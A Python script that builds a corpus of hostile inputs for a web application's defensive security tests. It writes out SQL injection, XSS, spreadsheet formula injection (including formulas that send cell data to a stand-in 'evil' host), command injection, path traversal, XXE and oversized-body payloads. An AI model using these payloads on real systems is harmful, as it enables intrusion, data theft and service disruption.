"""Builds tests/security/hostile_inputs.json (run once; the JSON file is what tests read).

    .venv/bin/python tests/security/build_hostile_corpus.py

Each entry is {"kind": ..., "value": str} or, for bytes that are not UTF-8,
{"kind": "invalid_utf8", "hex": "..."}; very long strings are {"kind": "long", "value": unit,
"repeat": n} so the file stays small. Sources: OWASP testing guide cheat sheets (SQL
injection, XSS filter evasion, CSV injection), common unicode-confusion tricks.

Two kinds are answered with a refusal, not merely without a 500:

- "datetime_range": well-formed date-times outside the years 1900-2100 (year 1 and 9999
  overflow when shifted to or from UTC); every date-time field and filter refuses them.
- "body": whole request bodies, not field values: {"kind": "body", "content_type": ...,
  "parts": [[unit, repeat], ...]} (the body is the units repeated, in order). JSON nested
  past the recursion limit or past MAX_JSON_DEPTH, more than DATA_UPLOAD_MAX_NUMBER_FIELDS
  form or multipart fields, more than DATA_UPLOAD_MAX_MEMORY_SIZE bytes: a 400 on every
  endpoint that reads a body.
"""

import json
from pathlib import Path

SQL = [
    "' OR '1'='1", "' OR 1=1--", "\" OR \"1\"=\"1", "admin'--", "1; DROP TABLE customers_customer;--",
    "' UNION SELECT username, password FROM auth_user--", "1' AND SLEEP(5)--", "'; WAITFOR DELAY '0:0:5'--",
    "1 OR pg_sleep(5)--", "' AND 1=CAST((SELECT version()) AS int)--", "%' AND 1=1 AND '%'='",
    "') OR ('1'='1", "1)) OR ((1=1", "' || (SELECT sqlite_version()) || '", "0x27", "\\'; --",
    "1e1000", "-1", "0", "99999999999999999999999999", "NULL", "null", "None", "true", "[]", "{}",
    "' OR ''='", "1' ORDER BY 100--", "1;SELECT * FROM pg_user", "$$ OR 1=1 $$", "'||'",
    "\" ; SELECT 1 ; --", "admin\" #", "1 UNION ALL SELECT NULL,NULL,NULL--", "'; COPY x TO PROGRAM 'id';--",
]  # fmt: skip
XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "\"><script>alert(document.cookie)</script>", "'><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>", "javascript:alert(1)", "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>", "<ScRiPt>alert(1)</sCrIpT>", "<scr<script>ipt>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "{{7*7}}", "${7*7}", "{% debug %}",
    "{{ request.user.password }}", "<!--", "]]>", "<![CDATA[<script>alert(1)</script>]]>", "<style>*{x:expression(alert(1))}</style>",
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "<x onclick=alert(1)>click", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "</script><script>alert(1)</script>", "<svg><script>alert&#40;1&#41;</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "<img src=\"x\" onerror=\"&#97;lert(1)\">",
]  # fmt: skip
FORMULA = [
    "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=HYPERLINK(\"http://evil\",\"x\")",
    "=IMPORTXML(CONCAT(\"http://evil/?\",A1),\"//a\")", "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "=WEBSERVICE(\"http://evil\")",
    "=1+1;=2", "'=1+1", "＝1+1", "=\"=\"&\"1+1\"", "+", "-", "@", "=", "=-", "-=", "+=1",
]  # fmt: skip
CONTROL = [
    "\x00", "a\x00b", "\x00<script>", "13812345678\x00", "\x01\x02\x03", "\x1b[31mred", "\x7f", "\x0b\x0c",
    "line1\r\nSet-Cookie: x=1", "a\rb", "a\nb", "\t", "%00", "%0d%0aLocation: http://evil", "\\x00",
]  # fmt: skip
UNICODE = [
    "\u202eevil.exe", "\u200b", "\u200d\u200c", "\ufeff", "\ufffe", "\uffff", "ｓｅｌｅｃｔ", "１３８１２３４５６７８",
    "Ａ＜script＞", "\u0430dmin", "e\u0301" * 20, "Z\u0351\u0352\u0353\u0354\u0355", "𝕏𝕐ℤ", "😀" * 10,
    "\U0001f4a9", "𠜎𠜱𠝹", "欧阳\u200b修文", "\u00a0\u2003", "\u2028\u2029", "İ", "ß", "ﬁ", "\u0000\u202e",
    "'\u02bc", "\uff07 OR 1=1--", "\u3000", "\u0085", "Ω≈ç√∫", "؁؂", "ヽ༼ຈل͜ຈ༽ﾉ",
]  # fmt: skip
SURROGATES = ["\ud800", "\udfff", "a\ud800b", "\udc00\ud800", "\ud83d", "<\ud800script>"]
MISC = [
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd%00", "file:///etc/passwd",
    "%s%s%s%n", "%x%x", "{0.__class__}", "__import__('os').system('id')", "; id", "| id", "`id`", "$(id)",
    "*)(uid=*))(|(uid=*", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "NaN", "Infinity", "-Infinity", "1e309", "-0", "0x7fffffff", "2147483648", "-9223372036854775809",
    "2026-02-30", "2026-13-01", "9999-12-31T23:59:59Z", "0000-00-00", "2026-11-23T25:61", "yesterday",
    " ", "   ", "", "\"", "'", "\\", "%", "_", "%%", "?", "#", "&", "&amp;", ";", ",", "*", "..", "/", "//",
]  # fmt: skip
INVALID_UTF8 = ["ff", "fe", "c3", "c328", "a0a1", "e28228", "e282", "f0288cbc", "f8a1a1a1a1", "fc", "80", "bf",
                "c0af", "e080af", "edA080", "eda080", "00ff", "3cff3e", "27ff", "ffd8ffe0"]  # fmt: skip
LONG = [("A", 10_000), ("A", 100_000), ("<script>", 5_000), ("'", 20_000), ("1", 5_000), ("欧", 20_000),
        ("=1+1", 1_000), ("%", 10_000), ("\x00", 1_000), ("😀", 5_000)]  # fmt: skip
DATETIME_RANGE = [
    "0001-01-01T00:00:00", "0001-01-01T00:00:00Z", "0001-01-01", "0001-01-01 07:59:59+23:59",
    "9999-12-31T23:59:59", "9999-12-31T23:59:59.999999", "9999-12-31T23:59:59-08:00",
    "9999-12-31T23:59:59-23:59", "1899-12-31T23:59:59", "2101-01-01T00:00:00", "1000-06-15T12:00",
]  # fmt: skip
MULTIPART_FIELD = '--B\r\nContent-Disposition: form-data; name="f"\r\n\r\n1\r\n'
BODIES = [
    ("application/json", [("[", 50_000)]),  # unterminated: the parser recurses first
    ("application/json", [("[", 50_000), ("]", 50_000)]),
    ("application/json", [('{"a":', 50_000)]),
    ("application/json", [('{"a":', 50_000), ("1", 1), ("}", 50_000)]),
    ("application/json", [('{"username":', 1), ("[", 33), ("]", 33), ("}", 1)]),  # 34 levels
    ("application/json", [('{"notes":"', 1), ("A", 2_700_000), ('"}', 1)]),  # over 2.5 MB
    ("application/x-www-form-urlencoded", [("f=1&", 1_001)]),
    ("application/x-www-form-urlencoded", [("&", 5_000)]),
    ("application/x-www-form-urlencoded", [("notes=", 1), ("A", 2_700_000)]),
    ("multipart/form-data; boundary=B", [(MULTIPART_FIELD, 1_001), ("--B--\r\n", 1)]),
]
WRAPS = ["{}", " {}", "{} ", "x{}", "{}x", "S001{}", "{}S001", "13812345678{}", "“{}”"]


def build() -> list[dict]:
    entries, seen = [], set()

    def add(kind, value):
        if (kind, value) not in seen:
            seen.add((kind, value))
            entries.append({"kind": kind, "value": value})

    for kind, values in (("sql", SQL), ("xss", XSS), ("formula", FORMULA), ("control", CONTROL),
                         ("unicode", UNICODE), ("surrogate", SURROGATES), ("misc", MISC),
                         ("datetime_range", DATETIME_RANGE)):  # fmt: skip
        for value in values:
            add(kind, value)
    # The same payloads inside benign-looking text (filters often strip or trim).
    for kind, values in (("sql", SQL[:20]), ("xss", XSS[:20]), ("formula", FORMULA[:12])):
        for wrap in WRAPS:
            for value in values:
                add(kind, wrap.format(value))
    entries += [{"kind": "invalid_utf8", "hex": h.lower()} for h in INVALID_UTF8]
    entries += [{"kind": "long", "value": unit, "repeat": n} for unit, n in LONG]
    entries += [
        {"kind": "body", "content_type": content_type, "parts": [list(p) for p in parts]}
        for content_type, parts in BODIES
    ]
    return entries


if __name__ == "__main__":
    out = Path(__file__).with_name("hostile_inputs.json")
    corpus = build()
    out.write_text(json.dumps(corpus, ensure_ascii=True, indent=0) + "\n")
    print(f"{len(corpus)} inputs -> {out}")
